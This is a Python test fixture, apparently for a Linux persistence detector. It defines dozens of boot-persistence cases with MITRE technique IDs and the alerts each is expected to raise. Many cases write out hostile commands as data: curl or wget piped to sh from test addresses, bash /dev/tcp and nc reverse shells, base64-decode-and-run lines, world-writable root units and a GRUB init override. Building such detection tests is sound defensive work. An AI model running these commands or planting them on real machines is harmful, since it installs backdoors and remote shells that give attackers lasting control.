"""Coming back with the machine: systemd, System V scripts, rc.local, inittab, udev, generators, kernel (T1543, T1037)."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour

UNIT = "[Unit]\nDescription={}\n[Service]\nExecStart={}\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"


def unit(description: str, command: str) -> str:
    return UNIT.format(description, command)


BEHAVIOURS = (
    Behaviour(
        name="systemd_service_pipes_download_to_shell",
        techniques=("T1543.002", "T1105"),
        does="A service with the name of a system part fetches a script at boot and runs it.",
        marks=("203.0.113.21/i",),
        raises=("systemd_unit_fetch_and_run",),
        files={
            "/etc/systemd/system/dbus-sync.service": unit(
                "D-Bus sync", "/bin/sh -c 'curl -s http://203.0.113.21/i | sh'"
            )
        },
    ),
    Behaviour(
        name="systemd_service_starts_program_in_dev_shm",
        techniques=("T1543.002",),
        does="A service starts a program from shared memory.",
        marks=("/dev/shm/netd",),
        raises=("systemd_unit_runs_from_temporary_directory",),
        files={"/etc/systemd/system/netd.service": unit("Network", "/dev/shm/netd -f")},
    ),
    Behaviour(
        name="systemd_service_starts_hidden_program",
        techniques=("T1543.002", "T1564.001"),
        does="A service of the system starts a program in a hidden directory.",
        marks=("/usr/lib/.cache-d/agent",),
        raises=("systemd_unit_hidden_program",),
        files={"/etc/systemd/system/cached.service": unit("Cache", "/usr/lib/.cache-d/agent")},
    ),
    Behaviour(
        name="systemd_drop_in_adds_reverse_shell",
        techniques=("T1543.002", "T1059.004"),
        does="A drop-in of a stock service adds a command that opens a shell.",
        marks=("203.0.113.22/53",),
        raises=("systemd_unit_fetch_and_run",),
        files={
            "/etc/systemd/system/ssh.service.d/override.conf": "[Service]\n"
            "ExecStartPost=-/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.22/53 0>&1 &'\n"
        },
    ),
    Behaviour(
        name="systemd_user_unit_decodes_its_command",
        techniques=("T1543.002", "T1140"),
        does="A unit of a user's own systemd decodes a command and runs it at each sign-in.",
        marks=("c2xlZXAgMQo",),
        raises=("systemd_unit_fetch_and_run",),
        files={
            "/root/.config/systemd/user/pipewire-helper.service": unit(
                "Sound", "/bin/sh -c 'echo c2xlZXAgMQo= | base64 -d | bash'"
            )
        },
    ),
    Behaviour(
        name="systemd_unit_file_writable_by_everybody",
        techniques=("T1543.002", "T1574"),
        does="A unit that runs as root can be rewritten by anybody.",
        marks=("/etc/systemd/system/metrics.service",),
        raises=("systemd_unit_program_writable_by_others", "file_world_writable_system_path"),
        files={"/etc/systemd/system/metrics.service": unit("Metrics", "/usr/bin/true")},
        modes={"/etc/systemd/system/metrics.service": 0o666},
    ),
    Behaviour(
        name="systemd_service_runs_program_that_anybody_may_replace",
        techniques=("T1543.002", "T1574"),
        does="A service starts a program that everybody may write to.",
        marks=("/srv/tools/collector",),
        raises=("systemd_unit_program_writable_by_others",),
        files={
            "/srv/tools/collector": "#!/bin/sh\n",
            "/etc/systemd/system/collector.service": unit("C", "/srv/tools/collector"),
        },
        modes={"/srv/tools/collector": 0o777},
    ),
    Behaviour(
        name="systemd_service_runs_script_with_reverse_shell",
        techniques=("T1543.002", "T1059.004"),
        does="A service with a plain name runs a script that keeps a shell open to a distant machine.",
        marks=("/usr/local/lib/inventory/agent.sh",),
        raises=("systemd_unit_script_opens_network_shell",),
        files={
            "/etc/systemd/system/inventory.service": unit("Inventory", "/bin/bash /usr/local/lib/inventory/agent.sh"),
            "/usr/local/lib/inventory/agent.sh": "#!/bin/bash\nwhile :; do\n"
            "  exec 9<>/dev/tcp/203.0.113.29/443\n  while read -r line <&9; do $line >&9 2>&1; done\n  sleep 60\ndone\n",
        },
    ),
    Behaviour(
        name="systemd_service_decodes_code_in_its_script",
        techniques=("T1543.002", "T1140"),
        does="What a service runs first is a script that decodes code.",
        marks=("/usr/local/lib/licence/check",),
        raises=("systemd_unit_script_fetches_or_decodes_code",),
        files={
            "/etc/systemd/system/licence.service": "[Service]\nExecStartPre=-/usr/local/lib/licence/check\n"
            "ExecStart=/usr/bin/true\n",
            "/usr/local/lib/licence/check": '#!/bin/sh\neval "$(echo c2xlZXAgMAo= | base64 -d)"\n',
        },
        modes={"/usr/local/lib/licence/check": 0o755},
    ),
    Behaviour(
        name="systemd_service_runs_script_that_anybody_may_change",
        techniques=("T1543.002",),
        does="A service lets a shell run a script that everybody may write to.",
        marks=("/srv/tools/sync-all.sh",),
        raises=("systemd_unit_script_writable_by_others",),
        files={
            "/etc/systemd/system/sync-all.service": unit("Sync", "/bin/sh -e /srv/tools/sync-all.sh"),
            "/srv/tools/sync-all.sh": "exit 0\n",
        },
        modes={"/srv/tools/sync-all.sh": 0o666},
    ),
    Behaviour(
        name="udev_rule_runs_script_that_fetches_code",
        techniques=("T1546.017", "T1105"),
        does="A udev rule runs a script of its own directory, which fetches code.",
        marks=("/usr/lib/udev/usb-power",),
        raises=("udev_rule_script_fetches_or_decodes_code",),
        files={
            "/usr/lib/udev/rules.d/99-usb-power.rules": 'SUBSYSTEM=="usb", ACTION=="add", RUN+="usb-power"\n',
            "/usr/lib/udev/usb-power": "#!/bin/sh\nbash <(curl -s http://203.0.113.28/u)\n",
        },
        modes={"/usr/lib/udev/usb-power": 0o755},
    ),
    Behaviour(
        name="systemd_generator_added",
        techniques=("T1543.002", "T1546"),
        does="A generator, which systemd runs as root before any service, is laid into /etc.",
        marks=("/etc/systemd/system-generators/",),
        raises=("autostart_hook_added_to_boot_or_network",),
        files={"/etc/systemd/system-generators/10-fstab": "#!/bin/sh\nexit 0\n"},
        modes={"/etc/systemd/system-generators/10-fstab": 0o755},
    ),
    Behaviour(
        name="generator_slipped_among_the_packaged_ones",
        techniques=("T1543.002",),
        does="A generator that no package owns lies among those of systemd.",
        marks=("/systemd/system-generators/systemd-lv-generator",),
        raises=("file_unowned_generator",),
        files={"/usr/lib/systemd/system-generators/systemd-lv-generator": "#!/bin/sh\nexit 0\n"},
        modes={"/usr/lib/systemd/system-generators/systemd-lv-generator": 0o755},
    ),
    Behaviour(
        name="init_script_fetches_code",
        techniques=("T1037.004", "T1105"),
        does="A System V script fetches code in its start function.",
        marks=("/etc/init.d/netconf",),
        raises=("init_script_contains_foreign_code",),
        files={
            "/etc/init.d/netconf": "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: netconf\n### END INIT INFO\n"
            "case $1 in start) wget -qO- http://203.0.113.23/n | sh ;; esac\n"
        },
        modes={"/etc/init.d/netconf": 0o755},
    ),
    Behaviour(
        name="init_script_is_a_binary",
        techniques=("T1037.004", "T1543"),
        does="A compiled program lies among the scripts of System V.",
        marks=("/etc/init.d/DbSecuritySpt",),
        raises=("init_script_hidden_or_binary",),
        shell="cp /bin/true /etc/init.d/DbSecuritySpt",
    ),
    Behaviour(
        name="init_script_hidden",
        techniques=("T1037.004", "T1564.001"),
        does="A script whose name begins with a dot lies in init.d.",
        marks=("/etc/init.d/.single",),
        raises=("init_script_hidden_or_binary", "file_hidden_executable_system_directory"),
        files={"/etc/init.d/.single": "#!/bin/sh\nexit 0\n"},
        modes={"/etc/init.d/.single": 0o755},
    ),
    Behaviour(
        name="init_script_writable_by_everybody",
        techniques=("T1037.004", "T1222.002"),
        does="A script that init runs as root can be rewritten by anybody.",
        marks=("/etc/init.d/metricsd",),
        raises=("init_script_writable_by_others", "file_world_writable_system_path"),
        files={"/etc/init.d/metricsd": "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: metricsd\n### END INIT INFO\n"},
        modes={"/etc/init.d/metricsd": 0o777},
    ),
    Behaviour(
        name="runlevel_link_leads_out_of_init_directory",
        techniques=("T1037.004",),
        does="A start link of a runlevel leads to a program elsewhere.",
        marks=("S99netfix",),
        raises=("init_script_link_leaves_init_directory",),
        shell="ln -s /usr/local/lib/netfix /etc/rc2.d/S99netfix",
    ),
    Behaviour(
        name="rc_local_runs_download",
        techniques=("T1037.004", "T1105"),
        does="rc.local fetches code and runs it when the machine has started.",
        marks=("203.0.113.24/rc",),
        raises=("init_script_local_fetches_and_runs_code", "init_script_local_command"),
        shell="printf '#!/bin/sh\\ncurl -s http://203.0.113.24/rc | bash\\n' > /etc/rc.local; chmod 755 /etc/rc.local",
    ),
    Behaviour(
        name="rc_local_starts_program_in_tmp",
        techniques=("T1037.004",),
        does="rc.local starts a program that lies in /var/tmp.",
        marks=("/var/tmp/update-rc",),
        raises=("init_script_local_runs_from_temporary_directory", "init_script_local_command"),
        afterwards="echo 'nohup /var/tmp/update-rc >/dev/null 2>&1 &' >> /etc/rc.local",
    ),
    Behaviour(
        name="inittab_keeps_a_program_alive",
        techniques=("T1037", "T1543"),
        does="A line of inittab starts a program again whenever it is killed.",
        marks=("/usr/lib/libudev.so.6",),
        raises=("init_script_inittab_keeps_program_alive",),
        files={"/etc/inittab": "id:2:initdefault:\nx1:2345:respawn:/usr/lib/libudev.so.6\n"},
    ),
    Behaviour(
        name="udev_rule_starts_shell_for_random_device",
        techniques=("T1546.017",),
        does="A udev rule waits for /dev/random, which appears at each boot, and starts a program through at.",
        marks=("/etc/udev/rules.d/10-input.rules",),
        raises=("udev_rule_triggers_on_memory_device", "udev_rule_runs_shell_command", "udev_rule_added_by_hand"),
        files={
            "/etc/udev/rules.d/10-input.rules": 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", '
            "RUN+=\"/bin/sh -c 'echo /usr/local/lib/input-helper | at now'\"\n"
        },
    ),
    Behaviour(
        name="udev_rule_runs_program_in_user_place",
        techniques=("T1546.017",),
        does="A udev rule starts a program in a directory that is not root's when a network card appears.",
        marks=("/etc/udev/rules.d/75-net.rules",),
        raises=("udev_rule_runs_from_writable_place", "udev_rule_added_by_hand"),
        files={"/etc/udev/rules.d/75-net.rules": 'SUBSYSTEM=="net", KERNEL!="lo", RUN+="/var/tmp/netup"\n'},
    ),
    Behaviour(
        name="udev_rule_file_hidden",
        techniques=("T1546.017", "T1564.001"),
        does="A file of udev rules has a name that begins with a dot.",
        marks=("/etc/udev/rules.d/.60-x.rules",),
        raises=("udev_rule_file_hidden", "udev_rule_added_by_hand"),
        files={"/etc/udev/rules.d/.60-x.rules": 'SUBSYSTEM=="usb", RUN+="/usr/bin/true"\n'},
    ),
    Behaviour(
        name="udev_rule_file_writable_by_everybody",
        techniques=("T1546.017", "T1222.002"),
        does="A file of udev rules can be rewritten by anybody.",
        marks=("/etc/udev/rules.d/61-usb.rules",),
        raises=("udev_rule_file_writable_by_others", "file_world_writable_system_path", "udev_rule_added_by_hand"),
        files={"/etc/udev/rules.d/61-usb.rules": 'SUBSYSTEM=="usb", RUN+="/usr/bin/false"\n'},
        modes={"/etc/udev/rules.d/61-usb.rules": 0o666},
    ),
    Behaviour(
        name="kernel_command_line_replaces_init",
        techniques=("T1542", "T1562.001"),
        does="The boot loader's default starts another first process.",
        marks=("init=/usr/lib/.boot/init",),
        raises=("autostart_kernel_command_line_starts_other_program",),
        shell="mkdir -p /etc/default/grub.d",
        files={"/etc/default/grub.d/99-init.cfg": 'GRUB_CMDLINE_LINUX="quiet init=/usr/lib/.boot/init"\n'},
    ),
    Behaviour(
        name="modprobe_configuration_runs_command",
        techniques=("T1546", "T1547.006"),
        does="Loading a common module runs a shell command first.",
        marks=("/usr/local/lib/netflt",),
        raises=("autostart_modprobe_runs_shell_command",),
        files={
            "/etc/modprobe.d/netfilter.conf": "install nf_tables /usr/local/lib/netflt & /sbin/modprobe -i nf_tables\n"
        },
    ),
    Behaviour(
        name="ifupdown_hook_opens_shell",
        techniques=("T1546", "T1059.004"),
        does="A script that runs when a network interface comes up opens a shell.",
        marks=("/etc/network/if-up.d/mtu",),
        raises=("autostart_script_fetches_or_decodes_code",),
        files={"/etc/network/if-up.d/mtu": "#!/bin/sh\nnohup nc 203.0.113.25 443 -e /bin/sh &\n"},
        modes={"/etc/network/if-up.d/mtu": 0o755},
    ),
    Behaviour(
        name="network_dispatcher_runs_program_in_tmp",
        techniques=("T1546",),
        does="A script of NetworkManager's dispatcher starts a program from /tmp.",
        marks=("/etc/NetworkManager/dispatcher.d/90-dns",),
        raises=("autostart_runs_from_temporary_directory",),
        files={"/etc/NetworkManager/dispatcher.d/90-dns": "#!/bin/sh\n/tmp/dns-fix &\n"},
        modes={"/etc/NetworkManager/dispatcher.d/90-dns": 0o755},
    ),
    Behaviour(
        name="dhcp_hook_decodes_code",
        techniques=("T1546", "T1140"),
        does="A hook of the DHCP client decodes a command whenever an address is renewed.",
        marks=("/etc/dhcp/dhclient-exit-hooks.d/zz-route",),
        raises=("autostart_script_fetches_or_decodes_code",),
        files={"/etc/dhcp/dhclient-exit-hooks.d/zz-route": "echo c2xlZXAgMgo= | base64 -d | sh\n"},
    ),
    Behaviour(
        name="initramfs_hook_hidden",
        techniques=("T1542", "T1564.001"),
        does="A hidden script takes part in building the initial RAM disk.",
        marks=("/etc/initramfs-tools/hooks/.keys",),
        raises=("autostart_runs_hidden_program", "file_hidden_executable_system_directory"),
        files={"/etc/initramfs-tools/hooks/.keys": "#!/bin/sh\nexit 0\n"},
        modes={"/etc/initramfs-tools/hooks/.keys": 0o755},
    ),
    Behaviour(
        name="systemd_service_runs_hidden_script",
        techniques=("T1543.002", "T1564.001"),
        does="A service lets Python run a script in a hidden directory.",
        marks=("/opt/.stat/a.py",),
        raises=("systemd_unit_hidden_program",),
        files={"/etc/systemd/system/stat.service": unit("Statistics", "/usr/bin/python3 /opt/.stat/a.py")},
    ),
    Behaviour(
        name="systemd_service_runs_program_of_user_as_root",
        techniques=("T1543.002", "T1574"),
        does="A service that runs as root starts a program in a user's home.",
        marks=("/home/viv/agent",),
        raises=("systemd_unit_root_runs_program_in_home",),
        files={"/etc/systemd/system/viv.service": unit("Agent", "/home/viv/agent")},
    ),
    Behaviour(
        name="log_rotation_fetches_code",
        techniques=("T1546", "T1105"),
        does="The rotation of a log fetches code and runs it.",
        marks=("203.0.113.26/l",),
        raises=("autostart_command_fetches_or_decodes_code",),
        files={
            "/etc/logrotate.d/zz": "/var/log/zz.log {\n  postrotate\n    curl -s http://203.0.113.26/l | sh\n  endscript\n}\n"
        },
    ),
)
